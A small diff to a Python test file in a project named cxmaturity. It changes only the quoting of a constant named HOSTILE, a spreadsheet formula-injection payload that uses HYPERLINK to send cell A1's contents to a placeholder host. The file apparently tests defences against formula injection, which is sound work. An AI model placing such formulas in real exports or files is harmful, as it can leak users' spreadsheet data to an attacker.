@@ -23,7 +23,7 @@ from cxmaturity.store.database import transaction
 from cxmaturity.web.context import services_of
 
 QUESTIONNAIRE = cx_maturity()
-HOSTILE = "=HYPERLINK(\"http://x?\"&A1)"
+HOSTILE = '=HYPERLINK("http://x?"&A1)'
 
 
 @pytest.fixture
